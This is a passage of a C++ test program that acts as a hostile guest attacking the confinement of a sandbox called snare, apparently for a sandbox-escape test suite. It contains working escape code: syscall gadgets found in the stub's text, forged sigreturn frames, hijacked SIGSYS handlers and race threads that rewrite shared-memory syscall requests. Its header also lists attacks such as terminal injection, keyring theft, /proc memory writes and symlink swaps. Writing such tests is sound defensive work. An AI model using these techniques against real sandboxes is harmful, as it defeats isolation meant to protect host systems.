// attack_guest ATTACK ARGS...: one attack on snare's confinement per run, written the way a
// hostile guest that knows snare's source would write it. It prints
// "attack ATTACK: <what happened>" lines; //tests:sandbox_escape_test checks the effect
// each attack is after (a file, a process, a terminal, a number in the stats).
//
// The stub is mapped at 0x7e0000000000 in every guest process ("memfd:snare-stub"), its ELF
// (with .symtab) is /proc/self/exe, and the shared region is at 0x7e0100000000 with the
// layout of platform/systrap/sysmsg/shared_region.h. Natively (no stub) every attack but
// selftest prints "no stub" and exits 0; under snare each first prints "started".
//
// Attacks:
//   selftest                   nothing harmful; exits 0
//   gadget_mkdir DIR           mkdir(DIR) from a `syscall` instruction in the stub's text
//   sigreturn_gadget DIR       rt_sigreturn to a forged frame that runs mkdir(DIR) there
//   gadget_sigaction DIR       rt_sigaction(SIGSYS, own handler) from the stub's text; then
//                              a plain syscall; the handler prints "own-sigsys-handler-ran"
//                              and makes DIR
//   frame_toctou               a thread rewrites args[0] of another thread's rt_sigaction
//                              (SIGUSR1 -> SIGSYS) after the sentry's reply (20000 calls,
//                              repeated up to 10 times while the race is not won)
//   frame_nr_forge             a thread rewrites the number of another thread's pending
//                              rt_sigaction(SIGSYS, own handler) request to getppid, a call
//                              the sentry passes unseen, before the sentry reads it (20000
//                              calls, repeated up to 10 times while the race is not won)
//   fake_header                points the stub's g_stub.header at a fake region whose frames
//                              always answer "passthrough"; then rt_sigaction(SIGSYS)
//   proc_mem                   writes a byte into snare's own processes via /proc/PID/mem
//                              ("wrote-mem PID")
//   kill_host PID              kill(PID, SIGKILL)
//   tiocsti                    pushes "echo snare-tiocsti-pwned\n" into the terminal's input
//   tcooff                     stops the terminal's output, then 20000 getppid()
//   forge_stats                1000 getppid(), then rewrites the slot counters: getppid 424242
//   trace_nonblock             O_NONBLOCK on stderr, then 50000 getppid()
//   trace_truncate TRACEFILE   1000 getppid(), truncates TRACEFILE, 10 getppid()
//   stats_symlink VICTIM [STATS]  symlinks STATS.tmp.<snare's pid> -> VICTIM (STATS defaults
//                              to stats.json)
//   mkdirat_alias DIR          mkdirat(AT_FDCWD, DIR)
//   open_alias FILE            openat(AT_FDCWD, FILE, O_RDONLY); prints the content
//   forged_policy DIR          rewrites the policy table the stub reads (mkdir: pass) and
//                              asks for the stub's own decision at patched sites, then calls
//                              mkdir(DIR) 100 times from a `mov $83, %eax; syscall` site of
//                              its own, which snare patches
//   setuid_file SRC            copies SRC into files of its working directory and gives each
//                              setuid/setgid bits one way: chmod, fchmod, fchmodat, fchmodat2,
//                              open, openat, creat and openat2 with mode 06755, mknod of a
//                              regular file, and a security.capability xattr (cap_setuid)
//   plant_symlink NAME TARGET  replaces NAME (a directory) with a symlink to TARGET
//   write_file PATH            creates PATH with a line in it
//   swap_for_symlink DIR TARGET  renames DIR away and puts a symlink to TARGET in its place
//   keyring_steal DESC         reads the "user" key DESC from the session keyring it was given
//                              ("stolen-key: PAYLOAD") and adds a key "snare-planted" there
//   fd_escape FD FILE          reads FILE through the inherited directory fd FD, then
//                              fchdir(FD) and creates "escaped" there
//   unix_connect PATH          connects to the pathname unix socket PATH and sends a line
//   fill_tmpfs                 writes 1 MiB blocks into /tmp, /run and /dev/shm until each is
//                              full or holds 96 MiB; "filled N" (bytes in all)
//   hog_memory PROCS MIB       PROCS processes each touch MIB MiB of anonymous memory and
//                              hold it; once each holds it or died, "held together N MiB
//                              (S of PROCS processes)"
//   fork_many N                forks N children that wait; "forked K of N"
//
// An argument "$NAME" is taken from the environment variable NAME instead.
//
// And one helper that is no attack, for the keyring test's host side:
//   with_session_key DESC SECRET -- ARGV...  joins a new session keyring, adds the "user"
//                              key DESC = SECRET, runs ARGV, then says "host-sees-planted-key"
//                              when a key "snare-planted" turned up in that keyring
#include <asm/prctl.h>
#include <dirent.h>
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/futex.h>
#include <poll.h>
#include <pthread.h>
#include <setjmp.h>
#include <signal.h>
#include <stdarg.h>
#include <sys/auxv.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <ucontext.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <iterator>
#include <string>
#include <vector>

#include "platform/systrap/sysmsg/shared_region.h"

namespace {

namespace sys = snare::systrap;

// Mirrors snare::stub::StubGlobals (platform/systrap/stub/slot_client.h): g_stub in the
// stub's writable data.
struct StubGlobals {
  sys::Header* header;
  bool fsgsbase;
  sys::Mode mode;
};

// struct sigaction as the kernel takes it (rt_sigaction).
struct KernelSigaction {
  uint64_t handler;
  uint64_t flags;
  uint64_t restorer;
  uint64_t mask;
};
constexpr uint64_t kSaRestorer = 0x04000000;

const char* g_attack = "?";

void Say(const char* format, ...) __attribute__((format(printf, 1, 2)));
void Say(const char* format, ...) {
  printf("attack %s: ", g_attack);
  va_list ap;
  va_start(ap, format);
  vprintf(format, ap);
  va_end(ap);
  printf("\n");
  fflush(stdout);
}

const char* ErrnoName(long result) {
  if (result >= 0 || result < -4095) return "ok";
  const char* name = strerrorname_np(static_cast<int>(-result));
  return name ? name : "E?";
}

// A raw syscall from this program's own code (trapped under snare); -errno on failure.
long Raw(long nr, long a0 = 0, long a1 = 0, long a2 = 0, long a3 = 0, long a4 = 0, long a5 = 0) {
  long r = syscall(nr, a0, a1, a2, a3, a4, a5);
  return r == -1 ? -errno : r;
}

std::string ReadFile(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  return std::string(std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>());
}

// True when [addr, addr+n) can be read: the kernel probes one byte of each page (no fault
// here).
bool Readable(uint64_t addr, size_t n) {
  int fds[2];
  if (n == 0 || pipe(fds) != 0) return false;
  bool ok = true;
  for (uint64_t page = addr & ~4095ull; ok && page < addr + n; page += 4096) {
    const uint64_t at = page < addr ? addr : page;
    char byte;
    ok = write(fds[1], reinterpret_cast<const void*>(at), 1) == 1 && read(fds[0], &byte, 1) == 1;
  }
  close(fds[0]);
  close(fds[1]);
  return ok;
}

bool HaveStub() {
  return Readable(sys::kStubBase, 4) &&
         memcmp(reinterpret_cast<const void*>(sys::kStubBase), ELFMAG, SELFMAG) == 0;
}

bool HaveRegion() {
  return Readable(sys::kSharedBase, sizeof(uint64_t)) &&
         sys::HeaderAt(reinterpret_cast<void*>(sys::kSharedBase))->magic == sys::kMagic;
}

sys::Header* Region() { return sys::HeaderAt(reinterpret_cast<void*>(sys::kSharedBase)); }

bool InStub(uint64_t addr) {
  return addr >= sys::kStubBase && addr < sys::kStubBase + sys::kStubReserve;
}

// ---- What the attacker learns from the stub's ELF ----

struct Mapping {
  uint64_t start = 0, end = 0;
  std::string perms, name;
};

std::vector<Mapping> Maps(const std::string& path) {
  std::vector<Mapping> maps;
  std::ifstream in(path);
  for (std::string line; std::getline(in, line);) {
    Mapping m;
    char perms[8] = {};
    int name_at = 0;
    if (sscanf(line.c_str(), "%lx-%lx %7s %*s %*s %*s %n", &m.start, &m.end, perms, &name_at) < 3) {
      continue;
    }
    m.perms = perms;
    if (name_at > 0 && static_cast<size_t>(name_at) <= line.size()) m.name = line.substr(name_at);
    maps.push_back(m);
  }
  return maps;
}

// The stub's ELF file: /proc/self/exe under snare, else the memfd itself (fd 1021).
std::string StubElf() {
  for (const char* path : {"/proc/self/exe", "/proc/self/fd/1021"}) {
    std::string elf = ReadFile(path);
    if (elf.size() < sizeof(Elf64_Ehdr) || memcmp(elf.data(), ELFMAG, SELFMAG) != 0) continue;
    Elf64_Ehdr eh;
    memcpy(&eh, elf.data(), sizeof(eh));
    if (InStub(eh.e_entry)) return elf;
  }
  return "";
}

// The address of a symbol of the stub: `exact`, else the first whose name contains
// `fragment` (mangled names: "6g_stubE"). 0 when absent.
uint64_t StubSymbol(const char* exact, const char* fragment) {
  static const std::string elf = StubElf();
  if (elf.empty()) return 0;
  Elf64_Ehdr eh;
  memcpy(&eh, elf.data(), sizeof(eh));
  if (eh.e_shoff == 0 || eh.e_shoff + uint64_t{eh.e_shnum} * sizeof(Elf64_Shdr) > elf.size()) {
    return 0;
  }
  std::vector<Elf64_Shdr> sh(eh.e_shnum);
  memcpy(sh.data(), elf.data() + eh.e_shoff, sh.size() * sizeof(Elf64_Shdr));
  uint64_t partial = 0;
  for (const Elf64_Shdr& s : sh) {
    if (s.sh_type != SHT_SYMTAB || s.sh_link >= sh.size()) continue;
    const Elf64_Shdr& strtab = sh[s.sh_link];
    if (s.sh_offset + s.sh_size > elf.size() || strtab.sh_offset + strtab.sh_size > elf.size()) {
      continue;
    }
    for (uint64_t off = 0; off + sizeof(Elf64_Sym) <= s.sh_size; off += sizeof(Elf64_Sym)) {
      Elf64_Sym sym;
      memcpy(&sym, elf.data() + s.sh_offset + off, sizeof(sym));
      if (sym.st_name >= strtab.sh_size || !sym.st_value) continue;
      const char* name = elf.data() + strtab.sh_offset + sym.st_name;
      if (strcmp(name, exact) == 0) return sym.st_value;
      if (!partial && fragment && strstr(name, fragment)) partial = sym.st_value;
    }
  }
  return partial;
}

// ---- syscall gadgets in the stub's text ----

// `syscall` instructions: followed by `ret` (returns here), by `hlt` (faults right after the
// call) or by anything.
uint64_t g_gadget_ret = 0;
uint64_t g_gadget_hlt = 0;
uint64_t g_gadget_any = 0;

// The executable ranges of the stub: its program headers (mapped at kStubBase), else maps.
std::vector<Mapping> StubText() {
  std::vector<Mapping> text;
  auto* eh = reinterpret_cast<const Elf64_Ehdr*>(sys::kStubBase);
  if (Readable(sys::kStubBase, sizeof(Elf64_Ehdr)) &&
      Readable(sys::kStubBase + eh->e_phoff, eh->e_phnum * sizeof(Elf64_Phdr))) {
    auto* ph = reinterpret_cast<const Elf64_Phdr*>(sys::kStubBase + eh->e_phoff);
    for (int i = 0; i < eh->e_phnum; ++i) {
      if (ph[i].p_type != PT_LOAD || !(ph[i].p_flags & PF_X) || !InStub(ph[i].p_vaddr)) continue;
      text.push_back({ph[i].p_vaddr, ph[i].p_vaddr + ph[i].p_filesz, "r-xp", "phdr"});
    }
  }
  if (text.empty()) {
    for (const Mapping& m : Maps("/proc/self/maps")) {
      if (InStub(m.start) && m.perms.find('x') != std::string::npos) text.push_back(m);
    }
  }
  return text;
}

bool FindGadgets() {
  static bool scanned = false;
  if (scanned) return g_gadget_any != 0;
  scanned = true;
  for (const Mapping& m : StubText()) {
    if (!Readable(m.start, m.end - m.start)) continue;
    auto* p = reinterpret_cast<const uint8_t*>(m.start);
    for (uint64_t i = 0; i + 2 < m.end - m.start; ++i) {
      if (p[i] != 0x0f || p[i + 1] != 0x05) continue;
      uint64_t at = m.start + i;
      if (p[i + 2] == 0xc3 && !g_gadget_ret) g_gadget_ret = at;
      if (p[i + 2] == 0xf4 && !g_gadget_hlt) g_gadget_hlt = at;
      if (!g_gadget_any) g_gadget_any = at;
    }
  }
  return g_gadget_any != 0;
}

// Recovery from whatever the stub's code does after the gadget's syscall.
sigjmp_buf g_fault_env;
volatile sig_atomic_t g_in_gadget = 0;
volatile sig_atomic_t g_in_own_handler = 0;
volatile uint64_t g_fault_rax = 0;
volatile int g_fault_signal = 0;
alignas(64) char g_alt_stack[256 * 1024];

void FaultHandler(int sig, siginfo_t*, void* ucv) {
  if (!g_in_gadget) {
    signal(sig, SIG_DFL);  // a real crash: let it happen again, by default
    return;
  }
  g_fault_rax = static_cast<ucontext_t*>(ucv)->uc_mcontext.gregs[REG_RAX];
  g_fault_signal = sig;
  siglongjmp(g_fault_env, 1);
}

void InstallFaultHandlers() {
  stack_t ss = {};
  ss.ss_sp = g_alt_stack;
  ss.ss_size = sizeof(g_alt_stack);
  sigaltstack(&ss, nullptr);
  struct sigaction sa = {};
  sa.sa_sigaction = FaultHandler;
  // SA_NODEFER: the handler leaves by siglongjmp without restoring the mask (restoring it
  // would be a syscall, which may already go to a handler of ours).
  sa.sa_flags = SA_SIGINFO | SA_NODEFER | SA_ONSTACK;
  for (int sig : {SIGSEGV, SIGILL, SIGBUS, SIGTRAP, SIGFPE, SIGALRM}) sigaction(sig, &sa, nullptr);
}

long CallAt(uint64_t target, long nr, long a0, long a1, long a2, long a3, long a4, long a5) {
  long ret;
  register long r10 __asm__("r10") = a3;
  register long r8 __asm__("r8") = a4;
  register long r9 __asm__("r9") = a5;
  __asm__ volatile(
      "sub $128, %%rsp\n\t"  // the red zone
      "call *%[target]\n\t"
      "add $128, %%rsp"
      : "=a"(ret)
      : "a"(nr), "D"(a0), "S"(a1), "d"(a2), "r"(r10), "r"(r8), "r"(r9), [target] "r"(target)
      : "rcx", "r11", "memory", "cc");
  return ret;
}

constexpr long kUnknownResult = -100000;

// Makes syscall `nr` from a stub `syscall` instruction. Returns its result (kUnknownResult
// when only a gadget followed by arbitrary code was found and the result was lost).
long GadgetSyscall(long nr, long a0 = 0, long a1 = 0, long a2 = 0, long a3 = 0, long a4 = 0,
                   long a5 = 0) {
  if (g_gadget_ret) return CallAt(g_gadget_ret, nr, a0, a1, a2, a3, a4, a5);
  const uint64_t gadget = g_gadget_hlt ? g_gadget_hlt : g_gadget_any;
  if (!gadget) return -ENOSYS;
  const bool arbitrary = !g_gadget_hlt;
  g_in_gadget = 1;
  if (sigsetjmp(g_fault_env, 0) == 0) {
    if (arbitrary && !g_in_own_handler) alarm(2);
    long r = CallAt(gadget, nr, a0, a1, a2, a3, a4, a5);
    g_in_gadget = 0;
    return arbitrary ? kUnknownResult : r;
  }
  g_in_gadget = 0;
  if (arbitrary && !g_in_own_handler) alarm(0);
  return arbitrary ? kUnknownResult : static_cast<long>(g_fault_rax);
}

std::string GadgetName() {
  char buf[96];
  snprintf(buf, sizeof(buf), "0x%lx (%s)",
           g_gadget_ret   ? g_gadget_ret
           : g_gadget_hlt ? g_gadget_hlt
                          : g_gadget_any,
           g_gadget_ret   ? "syscall; ret"
           : g_gadget_hlt ? "syscall; hlt"
                          : "syscall; ...");
  return buf;
}

// ---- A SIGSYS handler of the guest's own ----

char g_marker[160];
size_t g_marker_len = 0;
char g_handler_dir[4096];
uint64_t g_stub_write_all = 0;  // snare::stub::WriteAll(int, const char*, size_t)
uint64_t g_stub_exit = 0;       // the stub's _exit(int)
volatile sig_atomic_t g_own_ran = 0;

extern "C" void OwnRestorer();
__asm__(
    ".text\n"
    ".globl OwnRestorer\n"
    ".type OwnRestorer, @function\n"
    "OwnRestorer:\n"
    "  mov $15, %eax\n"
    "  syscall\n"
    "  ud2\n");

// Runs in place of the stub's handler: a syscall from this program's code would trap here
// again, so it only calls into the stub's text (its own WriteAll and _exit), or gadgets.
void OwnSigsysHandler(int, siginfo_t*, void*) {
  if (g_own_ran) return;
  g_own_ran = 1;
  g_in_own_handler = 1;
  if (g_stub_write_all) {
    reinterpret_cast<void (*)(int, const char*, size_t)>(g_stub_write_all)(1, g_marker,
                                                                           g_marker_len);
  } else {
    GadgetSyscall(SYS_write, 1, reinterpret_cast<long>(g_marker), static_cast<long>(g_marker_len));
  }
  if (g_handler_dir[0]) GadgetSyscall(SYS_mkdir, reinterpret_cast<long>(g_handler_dir), 0755);
  if (g_stub_exit) reinterpret_cast<void (*)(int)>(g_stub_exit)(0);
  GadgetSyscall(SYS_exit_group, 0);
}

// The handler's message, directory and ways into the stub's text.
void PrepareOwnHandler(const char* dir) {
  FindGadgets();
  g_marker_len = static_cast<size_t>(
      snprintf(g_marker, sizeof(g_marker), "attack %s: own-sigsys-handler-ran\n", g_attack));
  snprintf(g_handler_dir, sizeof(g_handler_dir), "%s", dir ? dir : "");
  g_stub_write_all = StubSymbol("_ZN5snare4stub8WriteAllEiPKcm", "8WriteAll");
  g_stub_exit = StubSymbol("_exit", nullptr);
  if (!InStub(g_stub_write_all)) g_stub_write_all = 0;
  if (!InStub(g_stub_exit)) g_stub_exit = 0;
}

KernelSigaction OwnSigsysAction(uint64_t restorer) {
  return {reinterpret_cast<uint64_t>(&OwnSigsysHandler), SA_SIGINFO | kSaRestorer, restorer, 0};
}

// After the attack: a plain syscall from this program's code.
void PlainSyscallCheck() {
  long r = Raw(SYS_getppid);
  Say("plain getppid() = %ld; own SIGSYS handler %s", r, g_own_ran ? "RAN" : "did not run");
}

// ---- Slots ----

bool HaveFsgsbase() { return getauxval(AT_HWCAP2) & 2 /* HWCAP2_FSGSBASE */; }

uint64_t ReadGsBase() {
  uint64_t gs;
  __asm__ volatile("rdgsbase %0" : "=r"(gs));
  return gs;
}

void WriteGsBase(uint64_t gs) { __asm__ volatile("wrgsbase %0" ::"r"(gs) : "memory"); }

// The calling thread's slot: GS base where rdgsbase works, else the slot naming our tid.
sys::Slot* OwnSlot() {
  void* base = reinterpret_cast<void*>(sys::kSharedBase);
  const uint64_t first = reinterpret_cast<uint64_t>(sys::SlotAt(base, 0));
  const uint64_t end = reinterpret_cast<uint64_t>(sys::SlotAt(base, sys::kMaxSlots));
  if (HaveFsgsbase()) {
    uint64_t gs = ReadGsBase();
    if (gs >= first && gs < end && (gs - first) % sizeof(sys::Slot) == 0) {
      return reinterpret_cast<sys::Slot*>(gs);
    }
  }
  const int32_t tid = static_cast<int32_t>(Raw(SYS_gettid));
  const int32_t tgid = static_cast<int32_t>(Raw(SYS_getpid));
  for (uint32_t i = 0; i < sys::kMaxSlots; ++i) {
    sys::Slot* s = sys::SlotAt(base, i);
    if (s->state == sys::kSlotClaimed && s->tid == tid && s->tgid == tgid) return s;
  }
  return nullptr;
}

uint32_t SlotIndexOf(const sys::Slot* s) {
  return static_cast<uint32_t>(s - sys::SlotAt(reinterpret_cast<void*>(sys::kSharedBase), 0));
}

// ---- /proc ----

struct ProcStat {
  pid_t ppid = 0;
  std::string comm;
};

ProcStat ReadStat(const std::string& pid) {
  ProcStat st;
  std::string s = ReadFile("/proc/" + pid + "/stat");
  size_t open = s.find('('), close = s.rfind(')');
  if (open == std::string::npos || close == std::string::npos || close + 4 > s.size()) return st;
  st.comm = s.substr(open + 1, close - open - 1);
  st.ppid = static_cast<pid_t>(atoi(s.c_str() + close + 4));  // ") S PPID"
  return st;
}

std::vector<std::string> Cmdline(pid_t pid) {
  std::string raw = ReadFile("/proc/" + std::to_string(pid) + "/cmdline");
  std::vector<std::string> args;
  size_t start = 0;
  while (start < raw.size()) {
    size_t end = raw.find('\0', start);
    if (end == std::string::npos) end = raw.size();
    args.push_back(raw.substr(start, end - start));
    start = end + 1;
  }
  return args;
}

bool IsSnareRun(pid_t pid) {
  std::vector<std::string> args = Cmdline(pid);
  if (args.size() < 2 || args[1] != "run") return false;
  const std::string& prog = args[0];
  return prog == "snare" || (prog.size() > 6 && prog.ends_with("/snare"));
}

// Our own pid as /proc names it (the host's, where /proc is the host's).
pid_t ProcSelf() {
  char buf[32] = {};
  if (readlink("/proc/self", buf, sizeof(buf) - 1) <= 0) return getpid();
  return static_cast<pid_t>(atoi(buf));
}

// Processes of this snare run other than ours: our parent (snare's init, or the sentry),
// its ancestors while they are `snare run` processes (init is a fork of the sentry), and
// pid 1 of our pid namespace when it is snare's.
std::vector<pid_t> SnareProcesses() {
  std::vector<pid_t> out;
  const pid_t self = ProcSelf();
  pid_t pid = ReadStat(std::to_string(self)).ppid;
  if (pid > 0) out.push_back(pid);
  for (int depth = 0; pid > 0 && IsSnareRun(pid) && depth < 8; ++depth) {
    pid = ReadStat(std::to_string(pid)).ppid;
    if (pid <= 0 || !IsSnareRun(pid)) break;
    out.push_back(pid);
  }
  std::vector<std::string> init = Cmdline(1);
  bool init_is_snare = !init.empty() && init[0].find("snare") != std::string::npos;
  bool have_1 = false;
  for (pid_t p : out) have_1 |= p == 1;
  if (init_is_snare && !have_1 && self != 1) out.push_back(1);
  return out;
}

// ---- Attacks ----

int Selftest() {
  Say("ok (stub %s)", HaveStub() ? "mapped" : "absent");
  return 0;
}

// Every attack's first line (before anything it tries): a run without it died before the
// attack.
bool Prologue() {
  if (!HaveStub()) {
    Say("no stub");
    return false;
  }
  InstallFaultHandlers();
  Say("started");
  return true;
}

// For attacks on the shared region: the stub and the region are mapped, and the own SIGSYS
// handler is ready.
bool RegionPrologue() {
  if (!Prologue()) return false;
  if (HaveRegion()) {
    PrepareOwnHandler(nullptr);
    return true;
  }
  Say("no shared region");
  return false;
}

sys::Slot* FindOwnSlot() {
  sys::Slot* slot = OwnSlot();
  if (!slot) Say("cannot find this thread's slot");
  return slot;
}

bool NeedGadget() {
  if (FindGadgets()) {
    Say("syscall gadget at %s", GadgetName().c_str());
    return true;
  }
  Say("no syscall instruction found in the stub's text");
  return false;
}

bool Exists(const char* path) {
  struct stat st;
  return stat(path, &st) == 0;
}

int GadgetMkdir(const char* dir) {
  if (!Prologue() || !NeedGadget()) return 0;
  long r = GadgetSyscall(SYS_mkdir, reinterpret_cast<long>(dir), 0755);
  Say("mkdir(%s) from the stub's text = %ld %s; exists: %s", dir, r, ErrnoName(r),
      Exists(dir) ? "yes" : "no");
  return 0;
}

int SigreturnGadget(const char* dir) {
  if (!Prologue() || !NeedGadget()) return 0;
  const uint64_t gadget = g_gadget_hlt ? g_gadget_hlt : g_gadget_ret ? g_gadget_ret : g_gadget_any;
  // The forged frame, and below it room for the SIGSYS frame its rt_sigreturn traps with.
  static char area[512 * 1024] __attribute__((aligned(64)));
  static char scratch_stack[64 * 1024] __attribute__((aligned(64)));
  auto* uc = reinterpret_cast<ucontext_t*>(area + sizeof(area) - 4096 - sizeof(ucontext_t));
  uc = reinterpret_cast<ucontext_t*>(reinterpret_cast<uint64_t>(uc) & ~63ull);
  memset(uc, 0, sizeof(*uc));
  sigprocmask(SIG_BLOCK, nullptr, &uc->uc_sigmask);
  sigaltstack(nullptr, &uc->uc_stack);
  // After the syscall, a `ret` lands at 0 and faults: the result is still in rax.
  auto* sp = reinterpret_cast<uint64_t*>(scratch_stack + sizeof(scratch_stack) - 64);
  *sp = 0;
  greg_t* g = uc->uc_mcontext.gregs;
  g[REG_RIP] = static_cast<greg_t>(gadget);
  g[REG_RAX] = SYS_mkdir;
  g[REG_RDI] = reinterpret_cast<greg_t>(dir);
  g[REG_RSI] = 0755;
  g[REG_RSP] = reinterpret_cast<greg_t>(sp);
  g[REG_EFL] = 0x202;
  g[REG_CSGSFS] = static_cast<greg_t>(0x33 | (0x2bull << 48));  // cs, gs, fs, ss
  uc->uc_mcontext.fpregs = nullptr;
  Say("rt_sigreturn to a forged frame: rip %s, mkdir(%s)", GadgetName().c_str(), dir);
  g_in_gadget = 1;
  if (sigsetjmp(g_fault_env, 0) == 0) {
    __asm__ volatile(
        "mov %0, %%rsp\n\t"
        "mov $15, %%eax\n\t"
        "syscall\n\t"
        "ud2"
        :
        : "r"(uc)
        : "memory");
    __builtin_unreachable();
  }
  g_in_gadget = 0;
  long r = static_cast<long>(g_fault_rax);
  Say("back after signal %d; rax %ld %s; exists: %s", g_fault_signal, r, ErrnoName(r),
      Exists(dir) ? "yes" : "no");
  return 0;
}

int GadgetSigaction(const char* dir) {
  if (!Prologue() || !NeedGadget()) return 0;
  PrepareOwnHandler(dir);
  uint64_t restorer = StubSymbol("StubRestoreRt", nullptr);
  if (!InStub(restorer)) restorer = reinterpret_cast<uint64_t>(&OwnRestorer);
  KernelSigaction act = OwnSigsysAction(restorer);
  Say("rt_sigaction(SIGSYS, own handler) from the stub's text");
  long r = GadgetSyscall(SYS_rt_sigaction, SIGSYS, reinterpret_cast<long>(&act), 0, 8);
  // From here, if that worked, every syscall of this program's code runs the own handler.
  Say("rt_sigaction from the stub's text = %ld %s", r, ErrnoName(r));
  PlainSyscallCheck();
  return 0;
}

// Runs `rewriter` on `arg` beside rt_sigaction(sig, own handler) calls, in batches of 20000,
// up to 10 batches or 10 s (a race, also on a loaded machine), until a call fails; then sets
// *stop and joins it. If a rewrite won, a later call traps into the own handler. Returns the
// calls made, -1 if the thread did not start.
int RaceSigactions(void* (*rewriter)(void*), void* arg, std::atomic<bool>* stop, int sig) {
  pthread_t thread;
  if (pthread_create(&thread, nullptr, rewriter, arg) != 0) {
    Say("pthread_create failed");
    return -1;
  }
  KernelSigaction act = OwnSigsysAction(reinterpret_cast<uint64_t>(&OwnRestorer));
  constexpr int kRounds = 20000, kBatches = 10;
  const time_t give_up = time(nullptr) + 10;
  int round = 0;
  for (int batch = 0; batch < kBatches && time(nullptr) < give_up; ++batch) {
    for (int i = 0; i < kRounds; ++i, ++round) {
      if (syscall(SYS_rt_sigaction, sig, &act, nullptr, 8) != 0) break;
    }
  }
  stop->store(true);
  pthread_join(thread, nullptr);
  return round;
}

int FrameToctou() {
  if (!RegionPrologue()) return 0;
  sys::Slot* slot = FindOwnSlot();
  if (!slot) return 0;
  Say("slot %u; mode %s", SlotIndexOf(slot),
      Region()->mode == sys::Mode::kInproc ? "inproc" : "systrap");
  struct Shared {
    sys::Frame* frame;
    bool inproc;
    std::atomic<bool> stop{false};
    std::atomic<long> rewrites{0};
  } shared;
  shared.frame = &slot->frames[0];
  shared.inproc = Region()->mode == sys::Mode::kInproc;
  auto body = [](void* arg) -> void* {
    auto* s = static_cast<Shared*>(arg);
    sys::Frame* f = s->frame;
    uint64_t last_seq = __atomic_load_n(&f->seq, __ATOMIC_ACQUIRE);
    uint32_t delay = 0;
    while (!s->stop.load(std::memory_order_relaxed)) {
      uint64_t seq = __atomic_load_n(&f->seq, __ATOMIC_ACQUIRE);
      if (seq == last_seq) continue;
      if (s->inproc) {
        // No reply state: the decision is made in-process, in the window between the trap
        // and the copy of the arguments. Sweep the delay across it.
        for (uint32_t i = 0; i < delay; ++i) __asm__ volatile("" ::: "memory");
        delay = (delay + 1) % 1500;
      } else {
        while (sys::PhaseOf(__atomic_load_n(&f->state, __ATOMIC_ACQUIRE)) != sys::kFrameReply &&
               __atomic_load_n(&f->seq, __ATOMIC_ACQUIRE) == seq &&
               !s->stop.load(std::memory_order_relaxed)) {
        }
      }
      if (__atomic_load_n(&f->nr, __ATOMIC_RELAXED) == SYS_rt_sigaction &&
          __atomic_load_n(&f->args[0], __ATOMIC_RELAXED) == SIGUSR1) {
        __atomic_store_n(&f->args[0], uint64_t{SIGSYS}, __ATOMIC_RELAXED);
        s->rewrites.fetch_add(1, std::memory_order_relaxed);
      }
      last_seq = seq;
    }
    return nullptr;
  };
  const int round = RaceSigactions(body, &shared, &shared.stop, SIGUSR1);
  if (round < 0) return 0;
  Say("%d rt_sigaction(SIGUSR1) calls, %ld rewrites to SIGSYS", round, shared.rewrites.load());
  PlainSyscallCheck();
  return 0;
}

int FrameNrForge() {
  if (!RegionPrologue()) return 0;
  sys::Slot* slot = FindOwnSlot();
  if (!slot) return 0;
  Say("slot %u", SlotIndexOf(slot));
  struct Shared {
    sys::Frame* frame;
    std::atomic<bool> stop{false};
    std::atomic<long> rewrites{0};
  } shared;
  shared.frame = &slot->frames[0];
  auto body = [](void* arg) -> void* {
    auto* s = static_cast<Shared*>(arg);
    sys::Frame* f = s->frame;
    while (!s->stop.load(std::memory_order_relaxed)) {
      // The request is written and the sentry has not answered: it may not have read it yet.
      if (sys::PhaseOf(__atomic_load_n(&f->state, __ATOMIC_ACQUIRE)) == sys::kFrameRequest &&
          __atomic_load_n(&f->nr, __ATOMIC_RELAXED) == SYS_rt_sigaction &&
          __atomic_load_n(&f->args[0], __ATOMIC_RELAXED) == SIGSYS) {
        __atomic_store_n(&f->nr, uint32_t{SYS_getppid}, __ATOMIC_RELAXED);
        s->rewrites.fetch_add(1, std::memory_order_relaxed);
      }
    }
    return nullptr;
  };
  // Emulated as a no-op while the sentry reads the call itself.
  const int round = RaceSigactions(body, &shared, &shared.stop, SIGSYS);
  if (round < 0) return 0;
  Say("%d rt_sigaction(SIGSYS) calls, %ld rewrites to getppid", round, shared.rewrites.load());
  PlainSyscallCheck();
  return 0;
}

int FakeHeader() {
  if (!RegionPrologue()) return 0;
  const uint64_t g_stub_addr = StubSymbol("_ZN5snare4stub6g_stubE", "6g_stubE");
  if (!InStub(g_stub_addr)) {
    Say("no g_stub in the stub's .symtab");
    return 0;
  }
  auto* g = reinterpret_cast<StubGlobals*>(g_stub_addr);
  if (!Readable(g_stub_addr, sizeof(StubGlobals)) ||
      reinterpret_cast<uint64_t>(g->header) != sys::kSharedBase) {
    Say("g_stub at 0x%lx does not point at the shared region", g_stub_addr);
    return 0;
  }
  sys::Slot* real_slot = OwnSlot();
  void* fake = mmap(nullptr, sys::kRegionSize, PROT_READ | PROT_WRITE,
                    MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
  if (fake == MAP_FAILED || !real_slot) {
    Say("setup failed (mmap %s, slot %p)", fake == MAP_FAILED ? "failed" : "ok", real_slot);
    return 0;
  }
  sys::Header* h = sys::HeaderAt(fake);
  memcpy(h, Region(), sizeof(sys::Header));
  h->spin_iterations = 0xffffffffu;  // the stub never sleeps: nobody would wake it
  h->sentry_sleeping = 0;
  h->sentry_pid = 0;
  h->trace = 0;
  sys::Slot* fake_slot = sys::SlotAt(fake, 0);
  fake_slot->state = sys::kSlotClaimed;
  fake_slot->tid = real_slot->tid;
  fake_slot->tgid = real_slot->tgid;
  fake_slot->host_tid = real_slot->host_tid;

  // The fake sentry: answers every request of the fake slot with "passthrough". Makes no
  // syscall while the fake header is in place (its own trap would find no slot).
  struct Answerer {
    sys::Slot* slot;
    std::atomic<bool> ready{false};
    std::atomic<bool> stop{false};
    std::atomic<long> answered{0};
  } answerer;
  answerer.slot = fake_slot;
  pthread_t thread;
  auto body = [](void* arg) -> void* {
    auto* a = static_cast<Answerer*>(arg);
    a->ready = true;  // past the thread start's own syscalls
    while (!a->stop.load(std::memory_order_relaxed)) {
      for (sys::Frame& f : a->slot->frames) {
